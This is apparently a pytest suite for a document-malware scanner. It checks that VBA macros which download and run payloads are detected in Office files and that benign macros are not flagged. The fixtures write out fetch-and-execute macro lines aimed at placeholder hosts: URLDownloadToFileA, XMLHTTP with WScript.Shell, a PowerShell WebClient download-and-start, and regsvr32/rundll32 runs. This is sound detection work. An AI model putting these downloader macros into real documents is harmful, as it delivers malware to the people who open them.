"""Macros in documents: the whole of what a downloader would do is recovered, and honest automation stays honest."""

import zlib
from dataclasses import astuple

import pytest
from tests.builders.files import examined, names_of, package

from seriema.exercise.compound_file import compound_file
from seriema.exercise.documents import (
    Spelling,
    doc_with_macro,
    docm_with_macro,
    macro_source,
    xls_with_macro,
    xlsm_with_macro,
)
from seriema.exercise.vba_project import vba_project
from seriema.model.artifact import State

URL = "http://cms.example/wp-content/themes/plain/_0123456789abcdef.php?x=MDAwMSA"
PATH = r"C:\Users\Public\14.tmp"


def presentation(source):
    project = zlib.compress(compound_file(vba_project(source)))
    record = b"\x10\x00\x11\x10" + (len(project) + 4).to_bytes(4, "little") + bytes(4) + project
    return compound_file({"PowerPoint Document": b"\x0f\0\xe8\x03" + bytes(4) + record, "Current User": bytes(20)})


BUILDERS = {
    "doc": lambda source: doc_with_macro(source, "x"),
    "doc with p-code": lambda source: doc_with_macro(source, "x", cache=bytes(range(256)) * 9),
    "docm": lambda source: docm_with_macro(source, "x"),
    "xls": xls_with_macro,
    "xlsm": xlsm_with_macro,
    "ppt": presentation,
    "another part name": lambda source: package({"word/x.bin": compound_file(vba_project(source))}),
}


def found(seen):
    return {(one.type.value, one.role, one.value) for one in seen.indicators}


@pytest.mark.parametrize("builder", BUILDERS)
@pytest.mark.parametrize("spelling", Spelling)
def test_a_downloader_is_read_in_every_container_and_spelling(builder, spelling):
    seen = examined(BUILDERS[builder](macro_source(URL, PATH, spelling)), "info")
    assert found(seen) == {
        ("url", "download", URL),
        ("path", "saves-as", PATH),
        ("command", "runs", f"regsvr32.exe -s {PATH}"),
    }
    assert {
        "macro.present",
        "macro.auto-run",
        "macro.download-call",
        "macro.run-call",
        "macro.fetch-and-run",
    } <= names_of(seen)
    assert seen.state is State.INSPECTED


def test_a_finding_says_where_and_what():
    seen = examined(doc_with_macro(macro_source(URL, PATH), "x"), "info.doc")
    (chain,) = [one for one in seen.findings if one.name == "macro.fetch-and-run"]
    assert (chain.place, chain.detail) == (
        "Module1:10",
        (
            f"AutoOpen fetches {URL} (URLDownloadToFileA, Module1:13), saves it as {PATH} "
            f"and runs regsvr32.exe -s {PATH} (Shell, Module1:14)"
        ),
    )


def seen_of(*lines, module="Module1"):
    return examined(docm_with_macro({"ThisDocument": "", module: "\n".join(lines)}, "x"), "x.docm")


DECLARE = 'Declare Function g Lib "urlmon" Alias "URLDownloadToFileA" (a, b, c, d, e)'
FETCH_AND_RUN = {
    "by XMLHTTP, stream and shell object": (
        "Sub Document_Open()",
        'Set h = CreateObject("MSXML2.XMLHTTP")',
        'h.Open "GET", "http://a.test/x.exe", False',
        's.SaveToFile "c:\\x.exe"',
        'CreateObject("WScript.Shell").Run "c:\\x.exe"',
        "End Sub",
    ),
    "by one command line": (
        "Sub Auto_Open()",
        "Shell \"powershell -c (New-Object Net.WebClient).DownloadFile('http://a.test/x','x.exe');start x.exe\"",
        "End Sub",
    ),
    "on one line": (
        DECLARE,
        'Sub AutoClose(): g 0, "http://a.test/x", "c:\\x.dll", 0, 0: Shell "rundll32 c:\\x.dll,a": End Sub',
    ),
    "through a computed call": (
        DECLARE,
        "Sub AutoOpen()",
        "Application.Run n",
        "End Sub",
        "Sub hidden()",
        'g 0, "http://a.test/x", p, 0, 0',
        "Shell p",
        "End Sub",
    ),
}


@pytest.mark.parametrize("case", FETCH_AND_RUN)
def test_ways_to_fetch_and_run(case):
    seen = seen_of(*FETCH_AND_RUN[case])
    assert "macro.fetch-and-run" in names_of(seen)
    assert any(role == "download" and value.startswith("http://a.test/x") for _, role, value in found(seen))


HONEST = {
    "a report": ("Sub Report()", 'Range("A1").Value = "x"', "End Sub"),
    "a web query without starting anything": (
        "Sub Workbook_Open()",
        'Set h = CreateObject("MSXML2.XMLHTTP")',
        'h.Open "GET", "http://intranet.test/rates.csv"',
        "End Sub",
    ),
    "a folder is shown": ("Sub Show()", 'Shell "explorer.exe C:\\Reports"', "End Sub"),
    "a fetch and a run that nothing starts": (
        DECLARE,
        "Sub A()",
        'g 0, "http://intranet.test/x", p, 0, 0',
        "End Sub",
        "Sub B()",
        'Shell "notepad"',
        "End Sub",
    ),
    "a start that reaches only one of them": (
        DECLARE,
        "Sub AutoOpen()",
        "B",
        "End Sub",
        "Sub A()",
        'g 0, "http://intranet.test/x", p, 0, 0',
        "End Sub",
        "Sub B()",
        'Shell "notepad"',
        "End Sub",
    ),
    "help addresses": ("Sub AutoOpen()", 'MsgBox "See http://intranet.test/help"', "End Sub"),
}


@pytest.mark.parametrize("case", HONEST)
def test_honest_automation_is_no_fetch_and_run(case):
    seen = seen_of(*HONEST[case])
    assert "macro.present" in names_of(seen)
    assert "macro.fetch-and-run" not in names_of(seen)
    assert seen.state is State.INSPECTED


@pytest.mark.parametrize(
    "line",
    [
        'u = "http://a.test/" & n',
        'u = "http://" & host & "/x"',
        "' http://a.test/comment",
        'u = "http://"',
        'u = "http:///x"',
    ],
)
def test_an_address_that_is_not_wholly_known_is_not_reported(line):
    seen = seen_of("Sub AutoOpen()", line, 'CreateObject("MSXML2.XMLHTTP").Open "GET", u', "End Sub")
    assert not [one for one in seen.indicators if one.type == "url"]


def test_an_address_that_plays_no_part_is_only_mentioned():
    seen = seen_of("Sub AutoOpen()", 'x = "http://intranet.test/help"', "End Sub")
    assert found(seen) == {("url", "mentions", "http://intranet.test/help")}


def test_a_constant_is_read_where_it_is_used_whole():
    lines = ('Const H = "http://a.test"', 'Const UNUSED = "http://b.test/"', "Sub A()", 'x = H & "/p"', "End Sub")
    assert {value for _, _, value in found(seen_of(*lines))} == {"http://a.test/p", "http://b.test/"}


def test_an_empty_project_is_no_macro():
    seen = examined(docm_with_macro({"ThisDocument": ""}, "x"), "x.docm")
    assert (names_of(seen), seen.state) == (set(), State.INSPECTED)


def broken(**changes):
    """A document whose project streams are replaced: by path, None takes one away."""
    streams = {f"Macros/{path}": content for path, content in vba_project(macro_source(URL, PATH), b"p" * 64).items()}
    streams |= {"WordDocument": bytes(2000)}
    for name, content in changes.items():
        streams.pop(f"Macros/VBA/{name}")
        if content is not None:
            streams[f"Macros/VBA/{name}"] = content
    return examined(compound_file(streams), "x.doc")


@pytest.mark.parametrize("content", [None, b"", b"p" * 64, b"p" * 64 + bytes(200)])
def test_a_module_without_its_source_is_not_inspected(content):
    seen = broken(Module1=content)
    assert "macro.source-missing" in names_of(seen)
    assert seen.state is State.UNSUPPORTED
    assert "Module1" in seen.state_reason


@pytest.mark.parametrize("content", [b"", b"junk", b"\x01\xff\xff\xff"])
def test_a_damaged_directory_does_not_hide_the_modules(content):
    seen = broken(dir=content)
    assert {"macro.project-damaged", "macro.fetch-and-run"} <= names_of(seen)
    assert seen.state is State.MALFORMED


def test_compiled_code_that_says_more_than_the_source_is_named():
    cache = bytes(40) + b"http://hidden.test/payload.exe" + bytes(40) + b"URLDownloadToFileA" + bytes(20)
    seen = examined(doc_with_macro({"Module1": "Sub AutoOpen()\nEnd Sub"}, "x", cache=cache), "x.doc")
    assert "macro.source-mismatch" in names_of(seen)
    assert seen.state is State.UNSUPPORTED


def test_compiled_code_that_says_the_same_is_not():
    cache = bytes(40) + URL.encode() + bytes(40)
    seen = examined(doc_with_macro(macro_source(URL, PATH), "x", cache=cache), "x.doc")
    assert "macro.source-mismatch" not in names_of(seen)


def test_other_code_pages_are_decoded():
    seen = examined(docm_with_macro({"Modul": 'Sub AutoOpen()\nx = "http://a.test/größe"\nEnd Sub'}, "x"), "x.docm")
    assert found(seen) == {("url", "mentions", "http://a.test/größe")}


def test_the_same_document_gives_the_same_facts():
    document = docm_with_macro(macro_source(URL, PATH), "x")
    assert astuple(examined(document, "x.docm")) == astuple(examined(document, "x.docm"))


def test_a_flood_of_lesser_facts_does_not_hide_the_chain():
    flood = "\n".join(f"Sub Workbook_{number}()\nCalculate\nEnd Sub" for number in range(3000))
    decoys = "\n".join(f'x = "http://decoy.test/{number}"' for number in range(3000))
    source = macro_source(URL, PATH)
    seen = examined(docm_with_macro({"A": flood, "B": f"Sub D()\n{decoys}\nEnd Sub", **source}, "x"), "x.docm")
    assert "macro.fetch-and-run" in names_of(seen)
    assert ("url", "download", URL) in found(seen)


def test_deep_and_repeated_nesting_is_read_in_bounds():
    for piece in ("(", "Chr(", 'Replace("a",', '"a" & ', "x _\n", 'CreateObject("a") '):
        assert examined(docm_with_macro({"M": "x = " + piece * 20_000}, "x"), "x.docm").state is not State.CRASHED
